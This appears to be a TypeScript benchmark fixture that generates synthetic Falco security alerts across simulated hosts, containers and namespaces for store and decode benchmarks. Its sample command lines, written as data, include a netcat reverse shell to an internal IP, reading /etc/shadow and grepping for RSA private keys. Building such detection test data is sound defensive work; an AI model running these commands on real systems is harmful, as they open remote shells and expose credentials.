/**
 * Synthetic alerts shaped like those of Falco's stable rules on a busy cluster (15 rules with
 * realistic frequencies, 20 hosts, 300 containers, 15 namespaces, spread over a week): the data of
 * bench:store and bench:hub-decode, so both measure the same alerts.
 */
import type { Priority } from '../src/engine/rules/index.js';
import type { StoredAlert } from '../src/store/store.js';
import { rng } from './synthetic-stream.js';

// ---------------------------------------------------------------------------------------------------
// Synthetic alerts: what Falco's stable rules raise on a busy cluster, spread over a week.

export interface RuleSpec {
  name: string;
  priority: Priority;
  tags: string[];
  source: 'syscall' | 'k8s_audit';
  text: string;
}

export const RULE_SPECS: RuleSpec[] = [
  {
    name: 'Terminal shell in container',
    priority: 'NOTICE',
    tags: ['maturity_stable', 'container', 'shell', 'mitre_execution', 'T1059'],
    source: 'syscall',
    text: 'A shell was spawned in a container with an attached terminal',
  },
  {
    name: 'Read sensitive file untrusted',
    priority: 'WARNING',
    tags: ['maturity_stable', 'host', 'container', 'filesystem', 'mitre_credential_access', 'T1555'],
    source: 'syscall',
    text: 'Sensitive file opened for reading by non-trusted program',
  },
  {
    name: 'Write below etc',
    priority: 'ERROR',
    tags: ['maturity_stable', 'host', 'container', 'filesystem', 'mitre_persistence', 'T1098'],
    source: 'syscall',
    text: 'File below /etc opened for writing',
  },
  {
    name: 'Contact K8S API Server From Container',
    priority: 'NOTICE',
    tags: ['maturity_stable', 'container', 'network', 'k8s', 'mitre_discovery', 'T1565'],
    source: 'syscall',
    text: 'Unexpected connection to K8s API Server from container',
  },
  {
    name: 'Netcat Remote Code Execution in Container',
    priority: 'WARNING',
    tags: ['maturity_stable', 'container', 'network', 'process', 'mitre_execution', 'T1059'],
    source: 'syscall',
    text: 'Netcat runs inside container that allows remote code execution',
  },
  {
    name: 'Clear Log Activities',
    priority: 'WARNING',
    tags: ['maturity_stable', 'host', 'container', 'filesystem', 'mitre_defense_evasion', 'T1070'],
    source: 'syscall',
    text: 'Log files were tampered',
  },
  {
    name: 'Launch Privileged Container',
    priority: 'INFORMATIONAL',
    tags: ['maturity_incubating', 'container', 'cis', 'mitre_execution', 'T1610'],
    source: 'syscall',
    text: 'Privileged container started',
  },
  {
    name: 'Drop and execute new binary in container',
    priority: 'CRITICAL',
    tags: ['maturity_stable', 'container', 'process', 'mitre_persistence', 'TA0003', 'PCI_DSS_11.5.1'],
    source: 'syscall',
    text: 'Executing binary not part of base image',
  },
  {
    name: 'Search Private Keys or Passwords',
    priority: 'WARNING',
    tags: ['maturity_stable', 'host', 'container', 'process', 'mitre_credential_access', 'T1552.001'],
    source: 'syscall',
    text: 'Grep private keys or passwords activities found',
  },
  {
    name: 'Debugfs Launched in Privileged Container',
    priority: 'WARNING',
    tags: ['maturity_stable', 'container', 'cis', 'process', 'mitre_privilege_escalation', 'T1611'],
    source: 'syscall',
    text: 'Debugfs launched started in a privileged container',
  },
  {
    name: 'Attach/Exec Pod',
    priority: 'NOTICE',
    tags: ['k8s'],
    source: 'k8s_audit',
    text: 'Attach/Exec to pod',
  },
  {
    name: 'Create Privileged Pod',
    priority: 'WARNING',
    tags: ['k8s'],
    source: 'k8s_audit',
    text: 'Pod started with privileged container',
  },
  {
    name: 'Create Sensitive Mount Pod',
    priority: 'WARNING',
    tags: ['k8s'],
    source: 'k8s_audit',
    text: 'Pod started with sensitive mount',
  },
  {
    name: 'K8s Secret Deleted',
    priority: 'INFORMATIONAL',
    tags: ['k8s'],
    source: 'k8s_audit',
    text: 'K8s Secret Deleted',
  },
  {
    name: 'Disallowed K8s User',
    priority: 'EMERGENCY',
    tags: ['k8s'],
    source: 'k8s_audit',
    text: 'K8s Operation performed by user not in allowed list of users',
  },
];
// How often each rule fires, relative (noisy rules dominate, as in real deployments).
const RULE_WEIGHTS = [30, 20, 4, 12, 1, 3, 10, 1, 2, 0.2, 8, 1, 1, 3, 0.05];
export const HOSTS = Array.from(
  { length: 20 },
  (_, i) => `ip-10-0-${Math.floor(i / 8)}-${10 + i}.ec2.internal`,
);
export const NAMESPACES = [
  'default',
  'kube-system',
  'payments',
  'checkout',
  'monitoring',
  'ingress-nginx',
  'data',
  'ml',
  'auth',
  'search',
  'web',
  'batch',
  'ci',
  'logging',
  'istio-system',
];
export const IMAGES = [
  'nginx',
  'redis',
  'postgres',
  'node',
  'python',
  'busybox',
  'envoy',
  'fluent-bit',
  'grafana',
  'kafka',
];
export const CONTAINERS = Array.from({ length: 300 }, (_, i) => ({
  id: (0x3ad7b26ded6dn + BigInt(i) * 7919n).toString(16).slice(0, 12),
  name: `${IMAGES[i % IMAGES.length]}-${i}`,
  image: `registry.example/${IMAGES[i % IMAGES.length]}:1.${i % 7}`,
  ns: NAMESPACES[i % NAMESPACES.length]!,
}));
export const WEEK_NS = 7n * 24n * 3600n * 1_000_000_000n;
export const START_NS = 1_732_000_000_000_000_000n;

function ruleIndex(r: number): number {
  const total = RULE_WEIGHTS.reduce((a, b) => a + b, 0);
  let x = r * total;
  for (let i = 0; i < RULE_WEIGHTS.length; i++) if ((x -= RULE_WEIGHTS[i]!) < 0) return i;
  return RULE_WEIGHTS.length - 1;
}

/** Alerts `from … from+count-1` of a deterministic stream of `total`, times ascending over a week. */
export function makeAlerts(from: number, count: number, total: number, seed = 1): StoredAlert[] {
  const r = rng(seed * 1_000_003 + from);
  const out: StoredAlert[] = new Array<StoredAlert>(count);
  for (let k = 0; k < count; k++) {
    const i = from + k;
    const spec = RULE_SPECS[ruleIndex(r())]!;
    const host = HOSTS[Math.floor(r() * HOSTS.length)]!;
    const time = START_NS + (WEEK_NS * BigInt(i)) / BigInt(total) + BigInt(Math.floor(r() * 1000));
    const c = CONTAINERS[Math.floor(r() * CONTAINERS.length)]!;
    const pid = 1000 + Math.floor(r() * 60000);
    const user = r() < 0.7 ? 'root' : 'app';
    let output: string;
    let fields: Record<string, unknown>;
    if (spec.source === 'syscall') {
      const inContainer = r() < 0.85;
      const cmd = [
        'bash -i',
        'cat /etc/shadow',
        'nc -e /bin/sh 10.0.0.9 4444',
        'grep -r BEGIN RSA /home',
        'curl -s https://10.96.0.1:443/api',
        'tee -a /etc/hosts',
      ][Math.floor(r() * 6)]!;
      fields = {
        'evt.type': spec.tags.includes('network')
          ? 'connect'
          : spec.tags.includes('filesystem')
            ? 'openat'
            : 'execve',
        'user.name': user,
        'user.loginuid': -1,
        'proc.cmdline': cmd,
        'proc.pid': pid,
        'proc.exepath': `/usr/bin/${cmd.split(' ')[0]}`,
        'proc.pname': r() < 0.5 ? 'runc' : 'containerd-shim',
        'fd.name': spec.tags.includes('filesystem') ? `/etc/${['shadow', 'hosts', 'passwd'][i % 3]}` : null,
        'container.id': inContainer ? c.id : 'host',
        'container.name': inContainer ? c.name : 'host',
        'container.image.repository': inContainer ? c.image : null,
        'k8s.ns.name': inContainer ? c.ns : null,
        'k8s.pod.name': inContainer ? `${c.name}-7d9f8b6c5-${(i % 97).toString(36)}x` : null,
        'evt.rawtime': time,
      };
      output = `${spec.text} (evt_type=${fields['evt.type']} user=${user} user_loginuid=-1 process=${cmd.split(' ')[0]} proc_exepath=${fields['proc.exepath']} parent=${fields['proc.pname']} command=${cmd} terminal=34816 container_id=${fields['container.id']} container_name=${fields['container.name']} k8s_ns=${fields['k8s.ns.name'] ?? '<NA>'} k8s_pod_name=${fields['k8s.pod.name'] ?? '<NA>'})`;
    } else {
      fields = {
        'ka.user.name': r() < 0.5 ? 'system:serviceaccount:ci:deployer' : 'alice@example.com',
        'ka.verb': ['create', 'delete', 'get'][i % 3],
        'ka.target.resource': 'pods',
        'ka.target.namespace': c.ns,
        'ka.target.name': `${c.name}-7d9f8b6c5-${(i % 97).toString(36)}x`,
        'ka.uri': `/api/v1/namespaces/${c.ns}/pods/${c.name}/exec?command=sh`,
        'ka.response.code': '101',
      };
      output = `${spec.text} (user=${fields['ka.user.name']} pod=${fields['ka.target.name']} ns=${c.ns} action=${fields['ka.uri']})`;
    }
    out[k] = {
      id: `${host}:b1:${i.toString().padStart(9, '0')}`,
      rule: spec.name,
      priority: spec.priority,
      source: spec.source,
      time,
      output,
      outputFields: fields,
      tags: spec.tags,
      hostname: host,
    };
  }
  return out;
}
